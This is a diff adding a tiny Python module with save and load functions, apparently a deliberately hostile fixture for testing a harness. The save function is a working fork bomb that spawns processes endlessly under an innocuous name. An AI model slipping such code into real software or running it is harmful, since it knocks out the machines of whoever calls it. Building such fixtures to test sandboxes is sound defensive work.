@@ -1,0 +1,15 @@
+"""Forks without end."""
+
+import os
+
+
+def save(dir, state):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            continue
+
+
+def load(dir):
+    return None
